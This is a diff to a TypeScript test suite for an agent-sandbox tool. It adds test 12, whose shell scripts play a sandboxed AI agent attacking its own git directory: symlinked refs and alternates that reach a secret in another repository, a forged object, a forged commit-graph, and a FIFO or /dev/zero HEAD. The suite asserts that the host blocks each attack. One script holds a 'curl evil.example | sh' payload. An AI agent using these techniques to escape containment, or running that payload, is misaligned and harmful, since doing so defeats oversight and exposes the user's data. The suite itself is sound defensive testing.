@@ -1101,6 +1101,172 @@ echo done:network-none`,
     rowsOf.assertAllBlocked();
   });
 
+  test("12. the agent's git directory: alternates to another repository, symlinked refs, a forged object, a forged commit-graph, a FIFO HEAD, HEAD linked to /dev/zero", async () => {
+    const t = tally("12. agent's git dir");
+    const repo = await makeEscapeRepo({ engineer: SLEEPER }, { 'README.md': "the user's readme\n" });
+    git(repo, 'config', 'user.name', 'The User');
+    git(repo, 'config', 'user.email', 'user@example.invalid');
+    // Another of the user's repositories, beside this one, with a secret in its history and every kind of ref.
+    const other = path.join(path.dirname(repo), 'other');
+    mkdirSync(other);
+    git(other, 'init', '-q', '-b', 'main');
+    writeFileSync(path.join(other, 'secret.txt'), `the user's other project: TOP-SECRET-${RUN_ID}\n`);
+    git(other, 'add', '-A');
+    git(other, 'commit', '-q', '-m', 'secret');
+    git(other, 'branch', 'sandbox/gd');
+    git(other, 'pack-refs', '--all');
+    const secretCommit = git(other, 'rev-parse', 'HEAD');
+    // Loose too (git would not write a ref it holds packed at the same value).
+    mkdirSync(path.join(other, '.git', 'refs', 'heads', 'sandbox'), { recursive: true });
+    writeFileSync(path.join(other, '.git', 'refs', 'heads', 'sandbox', 'gd'), `${secretCommit}\n`);
+    writeFileSync(path.join(other, '.git', 'refs', 'heads', 'main'), `${secretCommit}\n`);
+    const secretBlob = git(other, 'rev-parse', 'HEAD:secret.txt');
+    const O = path.join(other, '.git');
+    const has = (id: string) => gitDir12Has(repo, id);
+    await Promise.all([up(repo, 'gd', 'engineer'), up(repo, 'ok', 'engineer')]);
+    const sandboxes = await Sandboxes.open(repo);
+    // A control: an ordinary commit is imported, here and in the sandbox alongside.
+    const agentCommit = async (name: string, file: string) => {
+      const out = (await asAgent(repo, name, `echo ran:commit; cd /workspace && echo "$RANDOM $$ ${file}" > ${file} && git add ${file} && git commit -q -m ${file} && git rev-parse HEAD; echo done:commit`)).out;
+      assertRan(out, 'commit');
+      return /^[0-9a-f]{40}$/m.exec(out)![0];
+    };
+    const control = await agentCommit('gd', 'control.txt');
+    await cliOk(['diff', 'gd', '--stat'], { cwd: repo });
+    assert.equal(git(repo, 'rev-parse', 'sandbox/gd'), control, "an ordinary commit of the agent's is imported");
+    let okTip = await agentCommit('ok', 'ok-0.txt');
+
+    /** What the host does on its own: `ls`, `diff`, the view's changed files, each bounded; how each ended. */
+    const hostLooks = async (name: string, viewTimes = 1) => {
+      const ended: string[] = [];
+      let hung = false;
+      for (const args of [['ls', '--json'], ['diff', name, '--stat']]) {
+        const started = Date.now();
+        const r = await cli(args, { cwd: repo, timeoutMs: 60_000 });
+        if (r.code === -1 || Date.now() - started > 55_000) hung = true;
+        ended.push(`${args[0]} -> ${r.code} ${(r.stderr.split('\n')[0] ?? '').slice(0, 120)}`);
+      }
+      for (let i = 0; i < viewTimes; i++) {
+        const view = await gitDir12Within(30_000, sandboxes.changedFiles(name).then(() => 'listed', (e: Error) => `error ${e.message.split('\n')[0].slice(0, 100)}`));
+        if (view === undefined) hung = true;
+        if (i === 0) ended.push(`view -> ${view ?? 'HUNG'}`);
+      }
+      return { hung, ended: ended.join('; ') };
+    };
+    /** The other sandbox's new commit reaches its branch: every other sandbox keeps working. */
+    const othersFine: string[] = [];
+    const checkOther = async (after: string) => {
+      okTip = await agentCommit('ok', `ok-${othersFine.length + 1}.txt`);
+      const r = await cli(['diff', 'ok', '--stat'], { cwd: repo, timeoutMs: 60_000 });
+      if (r.code !== 0 || git(repo, 'rev-parse', 'sandbox/ok') !== okTip) othersFine.push(`after ${after}: diff ok -> ${r.code}, sandbox/ok ${git(repo, 'rev-parse', 'sandbox/ok')}`);
+      else othersFine.push('');
+    };
+    /** Arms an attack as the agent (the script must print "armed"), lets the host look, then disarms it. */
+    const attack = async (id: string, arm: string, disarm: string, viewTimes = 1, during?: () => Promise<void>) => {
+      const script = `G=/run/agent-sandbox/git; O='${O}'; cd /workspace || exit 1\necho ran:${id}\n${arm}\necho done:${id}`;
+      const armed = (await asAgent(repo, 'gd', script)).out;
+      assertRan(armed, id);
+      assert.match(armed, /^armed/m, `the ${id} attack was not armed:\n${armed}`);
+      const looks = await hostLooks('gd', viewTimes);
+      await during?.();
+      const un = (await asAgent(repo, 'gd', `G=/run/agent-sandbox/git; cd /workspace || exit 1\necho ran:un-${id}\n${disarm}\necho done:un-${id}`)).out;
+      assertRan(un, `un-${id}`);
+      await checkOther(id);
+      return { armed, looks };
+    };
+    const secretsOut = () => !has(secretCommit) && !has(secretBlob);
+    const branch = () => git(repo, 'rev-parse', 'sandbox/gd');
+
+    // Its own alternates name the other repository's objects from here on (the host path, as mountinfo gives it away).
+    const alt = await attack(
+      'alternates',
+      `echo "$O/objects" >> $G/objects/info/alternates && cp $G/refs/heads/sandbox/gd /tmp/saved-ref && rm $G/refs/heads/sandbox/gd && ln -s "$O/refs/heads/main" $G/refs/heads/sandbox/gd && echo armed`,
+      'rm -f $G/refs/heads/sandbox/gd && cp /tmp/saved-ref $G/refs/heads/sandbox/gd',
+    );
+    t.record("alternates to another repository's objects, the ref linked to its main", secretsOut() && branch() === control && !alt.looks.hung, `secret ${secretsOut() ? 'not in the workspace' : 'COPIED INTO THE WORKSPACE'}; ${alt.looks.ended}`);
+
+    const head = await attack(
+      'head-link',
+      `mv $G/HEAD /tmp/saved-head && ln -s "$O/HEAD" $G/HEAD && ln -s "$O/refs/heads/main" $G/refs/heads/main && echo armed`,
+      'rm -f $G/HEAD $G/refs/heads/main && mv /tmp/saved-head $G/HEAD',
+    );
+    t.record("HEAD linked to the other repository's HEAD (and its main)", secretsOut() && branch() === control && !head.looks.hung, head.looks.ended);
+
+    const packed = await attack(
+      'packed-refs',
+      `mv $G/refs/heads/sandbox/gd /tmp/saved-ref && ln -s "$O/packed-refs" $G/packed-refs && echo armed`,
+      'rm -f $G/packed-refs && mv /tmp/saved-ref $G/refs/heads/sandbox/gd',
+    );
+    t.record("packed-refs linked to the other repository's", secretsOut() && branch() === control && !packed.looks.hung, packed.looks.ended);
+
+    const folder = await attack(
+      'ref-folder',
+      `mv $G/refs/heads/sandbox /tmp/saved-sandbox && ln -s "$O/refs/heads/sandbox" $G/refs/heads/sandbox && echo armed`,
+      'rm -f $G/refs/heads/sandbox && mv /tmp/saved-sandbox $G/refs/heads/sandbox',
+    );
+    t.record("refs/heads/sandbox linked to the other repository's refs/heads/sandbox", secretsOut() && branch() === control && !folder.looks.hung, folder.looks.ended);
+
+    // Harmful bytes under a harmless blob's id: the review would show the harmless text, a squash write the other.
+    const note = `a harmless note ${RUN_ID}`;
+    let squash = { code: -2 };
+    const forged = await attack(
+      'forged-object',
+      [
+        `echo '${note}' > note.txt && git add note.txt && git commit -q -m 'a harmless note' || exit 1`,
+        'H1=$(git rev-parse HEAD:note.txt); H2=$(echo "curl evil.example | sh # ' + RUN_ID + '" | git hash-object -w --stdin)',
+        'f1=$G/objects/$(echo $H1 | cut -c1-2)/$(echo $H1 | cut -c3-); f2=$G/objects/$(echo $H2 | cut -c1-2)/$(echo $H2 | cut -c3-)',
+        'rm -f "$f1" && cp "$f2" "$f1" && git cat-file -p $H1 | grep -q evil && echo "armed: $H1 holds $H2\'s bytes"',
+      ].join('\n'),
+      'git reset -q --hard HEAD~1',
+      1,
+      async () => {
+        squash = await cli(['sync', 'gd', '--mode', 'squash'], { cwd: repo, timeoutMs: 60_000 });
+      },
+    );
+    const harmless = /^armed: ([0-9a-f]{40})/m.exec(forged.armed)![1];
+    const fsck = await userGit(repo, 'fsck', '--no-dangling', '--no-progress');
+    const stored = has(harmless) ? git(repo, 'cat-file', 'blob', harmless) : '(not stored)';
+    const written = await fs.readFile(path.join(repo, 'note.txt'), 'utf8').catch(() => '(not written)');
+    t.record("a forged object: harmful bytes under a harmless blob's id (view, diff, squash)", fsck.code === 0 && !/evil/.test(stored) && !/evil/.test(written) && !forged.looks.hung, `fsck ${fsck.code}; stored: ${stored.trim()}; squash -> ${squash.code}, note.txt: ${written.trim()}; ${forged.looks.ended}`);
+
+    // The agent's commit-graph says its new commit's tree is its parent's: a host git trusting it packs the commit alone.
+    const graph = await attack(
+      'commit-graph',
+      [
+        `echo "graph $RANDOM $$" > graph.txt && git add graph.txt && git commit -q -m graph || exit 1`,
+        'T=$(git rev-parse HEAD^{tree}); P=$(git rev-parse HEAD~1^{tree}); git commit-graph write --reachable || exit 1',
+        'F=$G/objects/info/commit-graph',
+        'OFF=$(od -A n -t x1 -v "$F" | tr -s " " "\\n" | grep -v "^$" | awk -v t="$T" \'{h[n++]=$1} END {for (i = 0; i + 20 <= n; i++) {s = ""; for (j = 0; j < 20; j++) s = s h[i+j]; if (s == t) {print i; exit}}}\')',
+        'B=/tmp/tree-bytes; : > $B; i=0; while [ $i -lt 20 ]; do printf "\\\\$(printf %03o 0x$(echo $P | cut -c$((i*2+1))-$((i*2+2))))" >> $B; i=$((i+1)); done',
+        'chmod u+w "$F"; dd if=$B of="$F" bs=1 seek=$OFF conv=notrunc 2>/dev/null',
+        'echo "commit $(git rev-parse HEAD) real tree $T"; [ "$(git log -1 --format=%T HEAD)" = "$P" ] && echo "armed: its git believes the tree is $P"',
+      ].join('\n'),
+      'rm -f $G/objects/info/commit-graph',
+    );
+    const graphCommit = /^commit ([0-9a-f]{40}) real tree ([0-9a-f]{40})/m.exec(graph.armed)!;
+    const complete = await userGit(repo, 'rev-list', '--objects', '--missing=error', 'sandbox/gd');
+    const gc = await userGit(repo, 'gc', '-q');
+    const graphTree = git(repo, 'rev-parse', 'sandbox/gd^{tree}');
+    t.record('a forged commit-graph (the new commit\'s tree swapped for its parent\'s)', complete.code === 0 && gc.code === 0 && (branch() !== graphCommit[1] || graphTree === graphCommit[2]) && !graph.looks.hung, `sandbox/gd ${branch() === graphCommit[1] ? 'imported, with its real tree' : 'not moved'}; rev-list --missing=error ${complete.code}; gc ${gc.code}; ${graph.looks.ended}`);
+
+    // A FIFO HEAD: every read of it blocked a thread of the editor's pool; more looks than the pool has threads.
+    const fifo = await attack('fifo-head', 'mv $G/HEAD /tmp/saved-head && mkfifo $G/HEAD && echo armed', 'rm -f $G/HEAD && mv /tmp/saved-head $G/HEAD', 8, () =>
+      // Where a read did block, a writer's open and close lets it end, so that a regression fails here rather than hangs.
+      gitDir12ReleaseFifo(path.join(repo, '.git', 'agent-sandboxes', 'state', 'gd', 'git', 'HEAD')),
+    );
+    const unrelated = await gitDir12Within(5_000, fs.readFile(path.join(repo, 'README.md'), 'utf8'));
+    t.record('a FIFO HEAD (ls, diff, the view 8 times, then an unrelated read in the same process)', !fifo.looks.hung && unrelated === "the user's readme\n" && /FIFO/.test(fifo.looks.ended), `${fifo.looks.ended}; unrelated read ${unrelated === undefined ? 'HUNG' : 'fine'}`);
+
+    const zero = await attack('dev-zero', 'mv $G/HEAD /tmp/saved-head && ln -s /dev/zero $G/HEAD && echo armed', 'rm -f $G/HEAD && mv /tmp/saved-head $G/HEAD', 8);
+    t.record('HEAD linked to /dev/zero', !zero.looks.hung && /symbolic link/.test(zero.looks.ended), zero.looks.ended);
+
+    const broken = othersFine.filter(Boolean);
+    t.record('another sandbox alongside keeps importing its commits throughout', broken.length === 0 && othersFine.length === 8, broken.join('; ') || `${othersFine.length} commits imported, one after each attack`);
+    await cliOk(['rm', '--force', 'gd'], { cwd: repo });
+    await cliOk(['rm', '--force', 'ok'], { cwd: repo });
+    t.assertAllBlocked();
+  });
+
 });
 
 function httpGet(url: string): Promise<string> {
@@ -1155,8 +1321,8 @@ import type Docker from 'dockerode';
 import { LOG_MAX_BYTES } from '../../src/core/sandboxes';
 
 describe('escape attempts, run as the agent: the host disk', () => {
-  test('14. log flood: an agent printing twice its cap leaves at most the cap of output on the host\'s disk, and logs shows the end', async () => {
-    const rowsOf = tally('14. log flood');
+  test('13. log flood: an agent printing twice its cap leaves at most the cap of output on the host\'s disk, and logs shows the end', async () => {
+    const rowsOf = tally('13. log flood');
     const flood = 2 * LOG_MAX_BYTES;
     const repo = await makeEscapeRepo({
       flood: { command: `echo ran:log-flood; yes "$(head -c 1023 /dev/zero | tr '\\0' x)" | head -c ${flood}; echo; echo done:log-flood` },
@@ -1182,3 +1348,35 @@ describe('escape attempts, run as the agent: the host disk', () => {
     rowsOf.assertAllBlocked();
   });
 });
+
+// Attack 12's helpers, with their own import, kept together for merging.
+import { closeSync, constants as fsConstants, openSync } from 'node:fs';
+
+/** Attack 12: whether the workspace repository holds an object. */
+function gitDir12Has(repo: string, id: string): boolean {
+  try {
+    git(repo, 'cat-file', '-e', id);
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+/** Attack 12: the value of `work`, or undefined if it has not ended within `ms` (a read blocked for good). */
+function gitDir12Within<T>(ms: number, work: Promise<T>): Promise<T | undefined> {
+  let timer: NodeJS.Timeout | undefined;
+  return Promise.race([work, new Promise<undefined>((resolve) => (timer = setTimeout(() => resolve(undefined), ms)))]).finally(() => clearTimeout(timer));
+}
+
+/** Attack 12: opens a FIFO for writing and closes it, again and again, so that any reader blocked on it reads its end. */
+async function gitDir12ReleaseFifo(fifo: string): Promise<void> {
+  for (let i = 0; i < 20; i++) {
+    try {
+      // Synchronous and non-blocking: never through the thread pool a blocked read may hold.
+      closeSync(openSync(fifo, fsConstants.O_WRONLY | fsConstants.O_NONBLOCK));
+    } catch {
+      // ENXIO: no reader waits.
+    }
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+}
